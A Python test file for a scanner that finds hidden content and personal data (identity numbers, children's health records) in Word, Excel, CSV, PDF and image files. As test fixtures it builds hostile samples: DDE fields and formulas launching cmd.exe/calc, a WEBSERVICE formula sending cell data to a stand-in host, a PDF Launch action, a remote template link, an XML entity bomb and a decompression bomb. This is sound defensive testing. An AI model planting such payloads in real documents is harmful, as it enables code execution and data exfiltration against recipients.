"""Each kind of hidden content, in files made for the purpose: all found, and nothing in files that hide nothing."""

import io
import json
import subprocess
import sys
import zipfile
from datetime import date
from functools import partial

import pikepdf
import pytest
from openpyxl import Workbook

from core.scanning.files import in_file
from core.scanning.process import scan_file
from tests.core.scanning import made
from tests.core.scanning.made import ADULT, line, pdf, photo, with_part, word, workbook

TODAY = date(2026, 3, 10)


def scan(content, suffix):
    return in_file(io.BytesIO(content), suffix, today=TODAY)


def kinds(content, suffix):
    return [one.kind for one in scan(content, suffix)]


BOX = b"0 g 90 695 200 20 re f\n"
CLEAR = {"ExtGState": pikepdf.Dictionary(G0=pikepdf.Dictionary(ca=0.3))}


def remarked(subtype, **more):
    """Lays a remark over the page."""

    def change(file):
        one = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name("/" + subtype), Rect=[90, 695, 300, 715], **more
        )
        file.pages[0].Annots = file.make_indirect(pikepdf.Array([one]))

    return change


def authored(file):
    file.docinfo["/Author"] = "张三丰"


def authored_in_xmp(file):
    with file.open_metadata(set_pikepdf_as_editor=False) as told:
        told["dc:creator"] = ["张三丰"]


def enclosed(file):
    file.attachments["名单.xlsx"] = pikepdf.AttachedFileSpec(file, b"x", filename="名单.xlsx")


def launching(file):
    file.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def with_photo(file):
    with_picture(photo(gps=True), 8, file)


def with_picture(content, size, file):
    picture = pikepdf.Stream(file, content)
    picture.Type, picture.Subtype, picture.Filter = (
        pikepdf.Name.XObject,
        pikepdf.Name.Image,
        pikepdf.Name.DCTDecode,
    )
    picture.Width = picture.Height = size
    picture.ColorSpace, picture.BitsPerComponent = pikepdf.Name.DeviceRGB, 8
    file.pages[0].Resources.XObject = pikepdf.Dictionary(I0=picture)


RUN = '<w:p><w:r><w:rPr>%s</w:rPr><w:t xml:space="preserve">底价三百万</w:t></w:r></w:p>'
FIELD = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://far.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
HIDDEN = {
    "author of a Word file": (word(author="张三丰"), "docx", "author"),
    "tracked insertion": (
        made.in_word_body('<w:p><w:ins w:author="张三"><w:r><w:t>新</w:t></w:r></w:ins></w:p>'),
        "docx",
        "tracked_change",
    ),
    "tracked deletion": (
        made.in_word_body('<w:p><w:del w:author="张三"><w:r><w:delText>旧</w:delText></w:r></w:del></w:p>'),
        "docx",
        "tracked_change",
    ),
    "hidden run": (made.in_word_body(RUN % "<w:vanish/>"), "docx", "hidden_text"),
    "remark in a Word file": (
        with_part(
            word(),
            word__comments_dot_xml=f'<w:comments xmlns:w="{made.W}"><w:comment w:author="张三"><w:p><w:r>'
            f"<w:t>此处保密</w:t></w:r></w:p></w:comment></w:comments>".encode(),
        ),
        "docx",
        "comment",
    ),
    "macros in a Word file": (with_part(word(), word__vbaProject_dot_bin=b"x"), "docx", "macro"),
    "embedded file in a Word file": (
        with_part(word(), word__embeddings__oleObject1_dot_bin=b"x"),
        "docx",
        "embedded_file",
    ),
    "remote template": (
        with_part(word(), word___rels__settings_dot_xml_dot_rels=RELATIONS),
        "docx",
        "external_link",
    ),
    "field that starts a program": (made.in_word_body(FIELD), "docx", "program"),
    "photograph in a Word file": (with_part(word(), word__media__a_dot_jpg=photo(gps=True)), "docx", "gps"),
    "author of a workbook": (workbook(creator="张三丰"), "xlsx", "author"),
    "hidden sheet": (workbook(made.hidden_sheet), "xlsx", "hidden_sheet"),
    "very hidden sheet": (
        workbook(lambda book: made.hidden_sheet(book, "veryHidden")),
        "xlsx",
        "very_hidden_sheet",
    ),
    "hidden row": (workbook(made.hidden_row), "xlsx", "hidden_row"),
    "hidden column": (workbook(made.hidden_column), "xlsx", "hidden_column"),
    "white words in a workbook": (made.shaded("FFFFFFFF"), "xlsx", "hidden_text"),
    "the theme's white in a workbook": (made.shaded(made.theme(0)), "xlsx", "hidden_text"),
    "words in the colour of their ground": (made.shaded("1F3864", "1F3864"), "xlsx", "hidden_text"),
    "words in the theme's colour of their ground": (
        made.shaded(made.theme(4, 0.4), made.theme(4, 0.4)),
        "xlsx",
        "hidden_text",
    ),
    "blackened cell": (made.shaded(None, "000000"), "xlsx", "hidden_text"),
    "cell blackened by its name": (made.shaded("FF000000", "FF000000"), "xlsx", "hidden_text"),
    "format that shows nothing": (made.shaded(shows=";;;"), "xlsx", "hidden_text"),
    "tiny words in a workbook": (made.shaded(size=1), "xlsx", "hidden_text"),
    "cell whose words are partly white": (made.shaded(partly="FFFFFF"), "xlsx", "hidden_text"),
    "remark in a workbook": (workbook(made.commented), "xlsx", "comment"),
    "macros in a workbook": (with_part(workbook(), xl__vbaProject_dot_bin=b"x"), "xlsx", "macro"),
    "formula that starts a program": (workbook(made.formula("=cmd|'/c calc'!A0")), "xlsx", "program"),
    "formula that sends": (
        workbook(made.formula('=WEBSERVICE("http://far.example/"&A1)')),
        "xlsx",
        "program",
    ),
    "link to another workbook": (workbook(made.formula("=[1]底稿!A1")), "xlsx", "external_link"),
    "formula in a CSV file": ("项目,金额\n=cmd|'/c calc'!A0,1\n".encode(), "csv", "program"),
    "text under a box": (pdf(line("secret") + BOX), "pdf", "covered_text"),
    "text under a drawn polygon": (
        pdf(line("secret") + b"90 695 m 290 695 l 290 715 l 90 715 l h f\n"),
        "pdf",
        "covered_text",
    ),
    "text under a moved box": (
        pdf(line("secret") + b"q 1 0 0 1 90 695 cm 0 0 200 20 re f Q"),
        "pdf",
        "covered_text",
    ),
    "number in the middle of a line": (
        pdf(line("name of the person 12345 12345 12345 end") + b"220 695 60 20 re f\n"),
        "pdf",
        "covered_text",
    ),
    "text under a remark": (
        pdf(line("secret"), remarked("Square", IC=[0, 0, 0])),
        "pdf",
        "covered_text",
    ),
    "text marked for redaction": (pdf(line("secret"), remarked("Redact")), "pdf", "covered_text"),
    "text that is not drawn": (pdf(b"BT 3 Tr /F1 12 Tf 100 700 Td (secret) Tj ET"), "pdf", "hidden_text"),
    "white text in a PDF": (pdf(line("open") + b"1 g " + line("secret", y=600)), "pdf", "hidden_text"),
    "white text in ink": (pdf(b"0 0 0 0 k " + line("secret")), "pdf", "hidden_text"),
    "tiny text in a PDF": (pdf(line("open") + b"BT /F1 1 Tf 9 9 Td (secret) Tj ET"), "pdf", "hidden_text"),
    "white text in a Word file": (
        made.in_word_body(RUN % '<w:color w:val="FFFFFF"/>'),
        "docx",
        "hidden_text",
    ),
    "tiny text in a Word file": (made.in_word_body(RUN % '<w:sz w:val="2"/>'), "docx", "hidden_text"),
    "picture in a Word file": (with_part(word(), word__media__a_dot_jpg=made.scan_of()), "docx", "picture"),
    "picture in a PDF": (pdf(line("open"), partial(with_picture, made.scan_of(), 300)), "pdf", "picture"),
    "picture": (made.scan_of(), "jpg", "picture"),
    "remark in a PDF": (pdf(line("open"), remarked("Text", Contents="note")), "pdf", "comment"),
    "author of a PDF": (pdf(line("open"), authored), "pdf", "author"),
    "author in the XMP packet": (pdf(line("open"), authored_in_xmp), "pdf", "author"),
    "embedded file in a PDF": (pdf(line("open"), enclosed), "pdf", "embedded_file"),
    "PDF that starts a program": (pdf(line("open"), launching), "pdf", "program"),
    "photograph in a PDF": (pdf(line("open") + b"q 8 0 0 8 0 0 cm /I0 Do Q", with_photo), "pdf", "gps"),
    "place of a photograph": (photo(gps=True), "jpg", "gps"),
    "maker of a photograph": (photo(artist="张三丰"), "jpg", "author"),
    "maker of a PNG": (photo("PNG", artist="Zhang San"), "png", "author"),
}


@pytest.mark.parametrize("name", HIDDEN)
def test_what_a_file_hides_is_found(name):
    """One thing is hidden in each file, and it alone is found."""
    content, suffix, kind = HIDDEN[name]
    assert set(kinds(content, suffix)) == {kind}


OPEN = {
    "Word file": (word(), "docx"),
    "workbook": (workbook(), "xlsx"),
    "workbook with sums": (workbook(made.formula("=SUM(B2:B2)")), "xlsx"),
    "white words on a dark cell": (made.shaded("FFFFFF", "1F3864"), "xlsx"),
    "the theme's white on its blue": (made.shaded(made.theme(0), made.theme(4)), "xlsx"),
    "words in the theme's grey": (made.shaded(made.theme(0, -0.5)), "xlsx"),
    "partly white words on a dark cell": (made.shaded("FF0000", "1F3864", partly="FFFFFF"), "xlsx"),
    "format that leaves zero out": (made.shaded(shows="0;-0;;@"), "xlsx"),
    "CSV file": ("项目,金额\n办公费,-100\n差旅费,+3.5%\n".encode(), "csv"),
    "text on a box": (pdf(b"1 g 90 695 200 20 re f 0 g " + line("open")), "pdf"),
    "white text on a box": (pdf(b"0 0 1 rg 90 695 200 20 re f 1 g " + line("open")), "pdf"),
    "white text on a round box": (
        pdf(b"90 690 m 300 690 400 690 300 720 c 90 720 l h f 1 g " + line("open")),
        "pdf",
    ),
    "white text on a shaded ground": (
        made.in_word_body(RUN % '<w:color w:val="FFFFFF"/><w:shd w:val="clear" w:fill="1F3864"/>'),
        "docx",
    ),
    "text in a frame": (pdf(line("open") + b"90 695 200 20 re S"), "pdf"),
    "text beside a box": (pdf(line("open") + b"300 695 200 20 re f"), "pdf"),
    "underlined text": (pdf(line("open") + b"100 698 60 1 re f"), "pdf"),
    "text under glass": (pdf(line("open") + b"/G0 gs " + BOX, **CLEAR), "pdf"),
    "text beside a clipped box": (pdf(line("open") + b"90 695 200 20 re W n"), "pdf"),
    "picture": (photo(), "jpg"),
    "PNG": (photo("PNG"), "png"),
}


@pytest.mark.parametrize("name", OPEN)
def test_files_that_hide_nothing_ask_nothing(name):
    assert kinds(*OPEN[name]) == []


@pytest.mark.parametrize(
    ("content", "suffix", "place"),
    [
        (word("一", f"二 {ADULT}"), "docx", {"paragraph": 2}),
        (word(table=[["编号", "号码"], ["1", ADULT]]), "docx", {"table": 1, "row": 2, "column": 2}),
        (workbook(lambda book: book.active.append(["甲", ADULT])), "xlsx", {"sheet": "汇总", "cell": "B3"}),
        (f"编号,号码\n1,{ADULT}\n".encode("gb18030"), "csv", {"cell": "B2"}),
        (f"一\n{ADULT}".encode(), "txt", {"line": 2}),
        (pdf(line("one") + line(ADULT, y=600)), "pdf", {"page": 1, "line": 2}),
    ],
)
def test_numbers_in_files_are_found_at_their_place(content, suffix, place):
    found = scan(content, suffix)
    assert [one.kind for one in found] == ["identity_number"]
    assert place.items() <= found[0].place.items()
    assert ADULT not in json.dumps([one.as_data() for one in found])


def test_lists_of_children_with_their_illness_are_found_in_a_workbook():
    """E-137: the result of examining a sick child is published nowhere without a basis."""

    def fill(book):
        sheet = book.create_sheet("病残儿鉴定")
        sheet.append(["序号", "儿童姓名", "出生日期", "鉴定结果"])
        sheet.append([1, "赵小一", date(2020, 5, 1), "先天性心脏病"])

    found = {one.kind: one.place for one in scan(workbook(fill), "xlsx")}
    assert set(found) == {"name_column", "minor_column", "birth_column", "minor", "health_column"}
    assert found["health_column"] == {"heading": "鉴定结果", "sheet": "病残儿鉴定", "cell": "D2"}


def test_lists_of_who_pays_a_levy_are_found_and_sums_are_not():
    """E-136: a village publishes what was due and what came in, never from whom."""
    heads = ["村名", "被征收人", "应征金额", "实征金额"]
    levied = workbook(
        lambda book: [book.active.append(row) for row in (heads, ["河东村", "赵一", 5000, 3000])]
    )
    assert kinds(levied, "xlsx") == ["name_column"]
    sums = workbook(lambda book: [book.active.append(row) for row in (heads[::2], ["河东村", 5000])])
    assert kinds(sums, "xlsx") == []


@pytest.mark.parametrize("suffix", ["pdf", "docx", "xlsx", "png", "jpg", "ofd"])
def test_what_cannot_be_read_is_said(suffix):
    """Nothing passes because the scan failed."""
    start = {"pdf": b"%PDF-1.7 broken", "png": b"\x89PNG\r\n\x1a\nx", "jpg": b"\xff\xd8\xffx"}
    assert kinds(start.get(suffix, b"PK\x03\x04x"), suffix) == ["unreadable"]


def test_a_scanned_page_without_text_is_said():
    assert kinds(pdf(b"0 0 10 10 re S"), "pdf") == ["unreadable"]


def test_entities_of_xml_are_not_unfolded():
    """A billion laughs end at the parser's door."""
    bomb = b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><w:document xmlns:w="w"><w:p>&c;</w:p></w:document>'
    assert kinds(with_part(word(), word__document_dot_xml=bomb), "docx") == ["unreadable"]


def test_a_process_of_its_own_reads_the_file(tmp_path):
    """Standard output is all that it may write; the number itself never leaves it."""
    path = tmp_path / "a.txt"
    path.write_text(ADULT)
    command = [sys.executable, "-m", "core.scanning", str(path), "txt", "2026-03-10"]
    done = subprocess.run(command, capture_output=True, check=True, text=True)
    assert [one["kind"] for one in json.loads(done.stdout)] == ["identity_number"]
    assert ADULT not in done.stdout


def test_a_file_that_eats_memory_hurts_only_its_own_process(tmp_path):
    """A shared string of 700 megabytes, folded into a few: the limit ends the reading, and that is said."""
    path = tmp_path / "a.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        for info in zipfile.ZipFile(io.BytesIO(workbook())).infolist():
            package.writestr(info.filename, zipfile.ZipFile(io.BytesIO(workbook())).read(info.filename))
        with package.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b"<sst><si><t>")
            for _piece in range(700):
                part.write(b"x" * 1024 * 1024)
            part.write(b"</t></si></sst>")
    assert [one.kind for one in scan_file(path, "xlsx", today=TODAY)] == ["unreadable"]


def test_a_program_is_no_author():
    """A table that a program wrote names the program as its maker: no person, and nobody has to decide about it."""
    for maker, number in (("openpyxl", 0), ("python-docx", 0), ("张三丰", 1), ("openpyxl 张三丰", 1)):
        book = Workbook()
        book.active.append(["项目", "金额"])
        book.properties.creator = maker
        kept = io.BytesIO()
        book.save(kept)
        assert kinds(kept.getvalue(), "xlsx").count("author") == number, maker
